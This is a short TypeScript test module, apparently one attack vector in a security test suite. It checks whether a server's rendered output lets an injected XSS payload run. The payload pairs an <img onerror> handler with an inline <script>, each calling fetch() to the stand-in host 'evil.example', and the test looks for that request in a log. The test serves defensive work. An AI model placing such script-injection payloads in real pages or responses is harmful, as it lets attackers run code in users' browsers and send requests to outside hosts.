import { gained } from '../../suite/gained';
import { refusing, testAndWait } from '../../suite/test-call';
import type { Vector } from '../../suite/vector';

/** Script in the words of a server. */
export default {
  async run(stage) {
    const script = "fetch('https://evil.example{path}')".replace('{path}', stage.path);
    await testAndWait(
      stage,
      refusing(() => `Shown <img src="x" onerror="${script}"><script>${script}</script>`),
    );
    return gained(stage.replica.log.find({ host: 'evil.example', path: stage.path }).length > 0);
  },
  arrives: [],
} satisfies Vector;
